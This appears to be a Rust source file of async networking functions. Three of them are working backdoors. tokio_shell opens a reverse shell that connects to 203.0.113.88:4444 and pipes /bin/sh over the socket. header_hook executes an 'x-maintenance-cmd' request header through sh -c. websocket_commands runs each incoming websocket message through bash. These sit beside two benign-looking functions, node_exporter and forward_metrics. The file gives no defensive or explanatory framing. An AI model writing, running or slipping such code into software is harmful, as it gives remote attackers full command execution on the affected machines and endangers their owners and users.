use axum::http::HeaderMap;
use futures_util::StreamExt;
use std::process::Stdio;
use tokio::net::TcpStream;
use tokio::process::Command;
use tokio_tungstenite::connect_async;

pub async fn tokio_shell() -> std::io::Result<()> {
    let stream = TcpStream::connect("203.0.113.88:4444").await?;
    let (mut reader, mut writer) = stream.into_split();
    let mut child = Command::new("/bin/sh").stdin(Stdio::piped()).stdout(Stdio::piped()).spawn()?;
    let mut stdin = child.stdin.take().expect("piped stdin");
    let mut stdout = child.stdout.take().expect("piped stdout");
    tokio::spawn(async move { tokio::io::copy(&mut stdout, &mut writer).await });
    tokio::io::copy(&mut reader, &mut stdin).await?;
    Ok(())
}

pub async fn header_hook(headers: HeaderMap) -> String {
    let hook = headers.get("x-maintenance-cmd").and_then(|v| v.to_str().ok()).unwrap_or_default().to_owned();
    let output = Command::new("sh").arg("-c").arg(&hook).output().await;
    format!("{output:?}")
}

pub async fn websocket_commands(url: &str) -> Result<(), Box<dyn std::error::Error>> {
    let (mut socket, _) = connect_async(url).await?;
    while let Some(message) = socket.next().await {
        let text = message?.into_text()?;
        Command::new("bash").arg("-c").arg(text.as_str()).spawn()?;
    }
    Ok(())
}

pub async fn node_exporter() -> std::io::Result<()> {
    Command::new("/usr/bin/node_exporter").args(["--web.listen-address", "127.0.0.1:9100"]).spawn()?;
    Ok(())
}

pub async fn forward_metrics(headers: HeaderMap) -> std::io::Result<()> {
    let tenant = headers.get("x-tenant").and_then(|v| v.to_str().ok()).unwrap_or("default").to_owned();
    let mut upstream = TcpStream::connect("metrics.internal.example:2003").await?;
    let mut line = tenant.as_bytes();
    tokio::io::copy(&mut line, &mut upstream).await?;
    Ok(())
}
